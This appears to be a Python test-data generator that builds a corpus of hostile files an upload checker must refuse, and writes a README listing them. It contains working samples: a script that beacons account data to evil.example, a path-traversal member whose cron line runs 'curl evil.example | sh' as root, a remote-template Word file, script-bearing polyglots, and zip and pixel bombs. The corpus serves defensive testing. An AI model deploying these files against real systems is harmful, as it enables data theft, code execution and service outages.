"""Write the hostile corpus: files every upload check must refuse, and its README.

Run from the project root: ``python tests/data/hostile/make_corpus.py``. Each
entry says the file's name, the reason code ``accept_upload`` must give with
the evidence kinds (``EVIDENCE_KINDS``), and why the file is dangerous.
``tests/unit/test_hostile_corpus.py`` checks every file against this list.
"""

from __future__ import annotations

import bz2
import io
import struct
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parents[2]))

from tests import samples  # noqa: E402

MiB = 1024 * 1024


def _html() -> bytes:
    return (b"<!DOCTYPE html><html><body><script>fetch('/account').then(r => r.text())"
            b".then(t => navigator.sendBeacon('https://evil.example/', t))</script>"
            b"</body></html>\n")


def _svg() -> bytes:
    return (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" '
            b'height="10"><script>alert(document.cookie)</script>'
            b'<rect width="10" height="10"/></svg>\n')


def _exe() -> bytes:
    """A DOS stub and PE header: what a Windows program starts with."""
    dos = bytearray(b"MZ" + b"\x90\x00" + b"\x00" * 60)
    struct.pack_into("<I", dos, 0x3C, 0x40)  # e_lfanew: the PE header follows
    pe = b"PE\x00\x00" + struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    return bytes(dos) + pe + b"\x00" * 256


def _gif_js() -> bytes:
    """A GIF that is also valid JavaScript (``GIF89a=…;alert(1)``)."""
    return (b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff\x00\x00\x00!\xf9\x04\x01\x00"
            b"\x00\x00\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;*/"
            b"=1;alert(document.domain);\n")


def _zip_of(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)
    return out.getvalue()


def _zip_bomb_docx() -> bytes:
    """A Word document with one part that inflates 1,000 times to 120 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for name, data in samples.docx_parts().items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data)
        info = zipfile.ZipInfo("word/media/filler.xml", date_time=(2026, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(info, "w") as member:
            block = b" " * MiB
            for _ in range(120):
                member.write(block)
    return out.getvalue()


def _zip_bomb_xlsx() -> bytes:
    """An Excel workbook of 150 bzip2 parts of 1 MiB each: 150 MB from a few KB."""
    parts: dict[str, bytes | str] = dict(samples.xlsx_parts())
    out = io.BytesIO()
    zeros = b"\x00" * MiB
    with zipfile.ZipFile(out, "w", zipfile.ZIP_BZIP2) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2026, 1, 1, 0, 0, 0)), data,
                             compress_type=zipfile.ZIP_DEFLATED)
        for number in range(150):
            info = zipfile.ZipInfo(f"xl/media/image{number}.bin",
                                   date_time=(2026, 1, 1, 0, 0, 0))
            archive.writestr(info, zeros, compress_type=zipfile.ZIP_BZIP2)
    assert bz2  # bzip2 support is what makes the parts this small
    return out.getvalue()


def _patched(data: bytes, name: bytes, *, size: int | None = None,
             flags: int | None = None) -> bytes:
    """Rewrite the declared size or flags of member ``name`` in both of its headers."""
    patched = bytearray(data)
    for signature, size_at, flags_at, name_at in ((b"PK\x03\x04", 22, 6, 30),
                                                  (b"PK\x01\x02", 24, 8, 46)):
        start = 0
        while (start := patched.find(signature, start)) != -1:
            length_at = name_at - 4 if signature == b"PK\x03\x04" else 28
            name_length = struct.unpack_from("<H", patched, start + length_at)[0]
            if patched[start + name_at:start + name_at + name_length] == name:
                if size is not None:
                    struct.pack_into("<I", patched, start + size_at, size)
                if flags is not None:
                    struct.pack_into("<H", patched, start + flags_at, flags)
            start += 4
    return bytes(patched)


def _lying_sizes_docx() -> bytes:
    """A part that declares 1,000 bytes and holds 8 MB: the directory lies."""
    parts = dict(samples.docx_parts())
    parts["word/media/filler.xml"] = b" " * (8 * MiB)
    return _patched(samples.ooxml(parts), b"word/media/filler.xml", size=1000)


def _encrypted_docx() -> bytes:
    return _patched(samples.docx_bytes(), b"word/document.xml", flags=0x1)


def _traversal_docx() -> bytes:
    parts = dict(samples.docx_parts())
    parts["../../../etc/cron.d/evil"] = "* * * * * root curl evil.example | sh\n"
    return samples.ooxml(parts)


def _external_template_docx() -> bytes:
    """Word fetches a remote template when opening it (CVE-2017-0199-style phishing)."""
    relationship = ('<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
                    'officeDocument/2006/relationships/attachedTemplate" '
                    'Target="https://evil.example/template.dotm" TargetMode="External"/>')
    return samples.ooxml(samples.docx_parts(document_rels=relationship))


def _macro_xlsx() -> bytes:
    parts = dict(samples.xlsx_parts())
    parts["[Content_Types].xml"] = str(parts["[Content_Types].xml"]).replace(
        "spreadsheetml.sheet.main+xml", "ms-excel.sheet.macroEnabled.main+xml")
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 504
    return samples.ooxml(parts)


def _pdf_in_docx() -> bytes:
    """A Word document that PDF readers open as a PDF (its header in the first KB)."""
    parts: dict[str, bytes | str] = {"%PDF-1.7 obj.xml": samples.pdf_bytes()}
    parts.update(samples.docx_parts())
    return samples.ooxml(parts, compression=zipfile.ZIP_STORED)


def _pixel_bomb() -> bytes:
    return samples.png_bomb(30_000, 30_000)


#: (file name, reason code with EVIDENCE_KINDS, why it must be refused)
CORPUS: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
    ("empty.pdf", lambda: b"", "empty", "Nothing in it."),
    ("html_named.pdf", _html, "extension",
     "An HTML page with a script, named .pdf: shown inline it would run in the portal's origin."),
    ("svg_with_script.svg", _svg, "type",
     "SVG is XML that can carry scripts; it is not an accepted kind."),
    ("svg_with_script.png", _svg, "extension", "The same SVG named .png."),
    ("exe_named.jpg", _exe, "extension", "A Windows program (MZ/PE header) named .jpg."),
    ("gif_js_polyglot.gif", _gif_js, "type",
     "A GIF that is also JavaScript; GIF is not an accepted kind."),
    ("gif_js_polyglot.jpg", _gif_js, "extension", "The same polyglot named .jpg."),
    ("heic_named.jpg", samples.heic_bytes, "extension",
     "A real HEIC photo named .jpg: a name must not lie about the content."),
    ("pdf_with_javascript.pdf", samples.pdf_with_javascript, "unsafe",
     "A PDF that runs JavaScript when opened (OpenAction)."),
    ("pdf_with_attachment.pdf", samples.pdf_with_attachment, "unsafe",
     "A PDF carrying an embedded program."),
    ("pdf_zip_polyglot.pdf", lambda: samples.pdf_bytes() + _zip_of(
        {"index.html": _html()}), "unsafe",
     "A valid PDF that is also a ZIP archive (a ZIP appended): unpacks as something else."),
    ("png_zip_polyglot.png", lambda: samples.png_bytes() + _zip_of(
        {"run.exe": _exe()}), "unsafe", "A valid PNG that is also a ZIP archive."),
    ("pixel_bomb.png", _pixel_bomb, "unsafe",
     "A PNG of a few bytes declaring 30,000 x 30,000 pixels (2.7 GB once decoded)."),
    ("truncated.jpg", lambda: samples.jpeg_bytes()[:-40], "unsafe",
     "A JPEG cut short: it does not decode."),
    ("zip_bomb.docx", _zip_bomb_docx, "unsafe",
     "A Word document with a part that inflates 1,000 times (120 MB from about 120 KB)."),
    ("zip_bomb.xlsx", _zip_bomb_xlsx, "unsafe",
     "An Excel workbook of 150 bzip2 parts of 1 MiB: 150 MB in all from a few KB."),
    ("zip_lying_sizes.docx", _lying_sizes_docx, "unsafe",
     "Its directory declares 1,000 bytes for a part of 8 MB: sizes are not trusted."),
    ("macro_docm_renamed.docx", lambda: samples.ooxml(samples.docx_parts(macro=True)),
     "unsafe", "A macro-enabled Word document (DOCM, vbaProject.bin) renamed .docx."),
    ("macro_xlsm_renamed.xlsx", _macro_xlsx, "unsafe",
     "A macro-enabled workbook (XLSM) renamed .xlsx."),
    ("docx_external_template.docx", _external_template_docx, "unsafe",
     "Word would fetch a template from another server when opening it."),
    ("docx_path_traversal.docx", _traversal_docx, "unsafe",
     "A member named ../../../etc/cron.d/evil: unpacking it writes outside the folder."),
    ("docx_encrypted_member.docx", _encrypted_docx, "unsafe",
     "An encrypted member: its content cannot be checked."),
    ("pdf_in_docx.docx", _pdf_in_docx, "unsafe",
     "A Word document whose first kilobyte holds a PDF header: PDF readers open it too."),
    ("plain_zip.docx", lambda: _zip_of({"readme.txt": b"not a document"}), "type",
     "A ZIP archive that is no Word document, named .docx."),
)


def main() -> None:
    """Write every file of ``CORPUS`` and the README that lists them."""
    lines = ["# Hostile corpus", "",
             "Files that every upload check must refuse. Generated by `make_corpus.py` (run",
             "`python tests/data/hostile/make_corpus.py` from the project root); checked by",
             "`tests/unit/test_hostile_corpus.py` against `accept_upload`, `flask files check`",
             "and the self-check upload form. *Reason* is the `UploadRefused.reason` given",
             "with the evidence kinds (`EVIDENCE_KINDS`).", "",
             "| file | bytes | reason | why it must be refused |", "|---|---|---|---|"]
    for name, build, reason, why in CORPUS:
        data = build()
        (HERE / name).write_bytes(data)
        lines.append(f"| `{name}` | {len(data):,} | `{reason}` | {why} |")
    (HERE / "README.md").write_text("\n".join(lines) + "\n", encoding="utf-8")


if __name__ == "__main__":
    main()
